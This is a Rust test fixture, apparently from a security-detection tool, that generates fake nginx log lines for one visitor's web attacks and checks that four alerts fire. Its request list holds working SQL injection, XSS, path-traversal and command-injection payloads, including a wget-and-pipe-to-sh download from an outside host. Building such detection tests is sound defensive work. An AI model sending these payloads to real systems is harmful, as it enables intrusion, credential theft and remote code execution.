//! One visitor tries SQL injection, cross-site scripting, path traversal and command injection, written plainly and
//! percent-encoded.

use super::super::kinds::Access;
use super::{Attack, Expected, Who};

const AGENT: &str = "Mozilla/5.0 (Windows NT 10.0; rv:115.0) Gecko/20100101 Firefox/115.0";

/// Method, path, status.
pub(super) const REQUESTS: [(&str, &str, u16); 14] = [
    ("GET", "/products?id=7%27%20OR%20%271%27=%271", 200),
    ("GET", "/products?id=-1%20UNION%20ALL%20SELECT%20username,password,3%20FROM%20users--%20-", 500),
    ("GET", "/products?id=7;WAITFOR%20DELAY%20%270:0:5%27--", 500),
    ("GET", "/search?q=1'+UNION+SELECT+NULL,version(),NULL--+", 200),
    ("GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", 200),
    ("GET", "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", 200),
    ("GET", "/profile?next=javascript:alert(document.domain)", 200),
    ("GET", "/download?file=../../../../../../etc/passwd", 400),
    ("GET", "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd", 400),
    ("GET", "/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/shadow", 400),
    ("GET", "/tools/ping?host=127.0.0.1;cat%20/etc/passwd", 500),
    ("GET", "/tools/ping?host=127.0.0.1%7Cid", 500),
    ("GET", "/tools/ping?host=$(wget%20http://198.51.100.66/x.sh%20-O-%7Csh)", 500),
    ("POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400),
];

pub(super) static ATTACK: Attack = Attack {
    title: "web attack",
    expected: &[
        Expected { title: "SQL injection attempt", about: Some(("source.ip", Who::Attacker)) },
        Expected { title: "Cross-site scripting attempt", about: Some(("source.ip", Who::Attacker)) },
        Expected { title: "Path traversal attempt", about: Some(("source.ip", Who::Attacker)) },
        Expected { title: "Command injection attempt", about: Some(("source.ip", Who::Attacker)) },
    ],
    kind: "nginx",
    write: |script, role| {
        for (method, path, status) in REQUESTS {
            let access = Access {
                host: role.host,
                address: role.attacker,
                method,
                status,
                bytes: role.rng.u32(150..900),
                referrer: "-",
                agent: AGENT,
            };
            script.after(180, |line| {
                access.write(line, |line| {
                    line.text(path);
                })
            });
        }
    },
};

#[cfg(test)]
mod tests {
    use super::super::tests::check;
    use super::*;

    #[test]
    fn each_of_the_four_attacks_is_tried_by_the_same_visitor() {
        check(&ATTACK, &["203.0.113.9 - - ["], 14);
        check(&ATTACK, &["UNION"], 2);
        check(&ATTACK, &["%3Cscript%3E"], 1);
        check(&ATTACK, &["../../etc/passwd"], 1);
        check(&ATTACK, &[";cat%20/etc/passwd"], 1);
    }
}
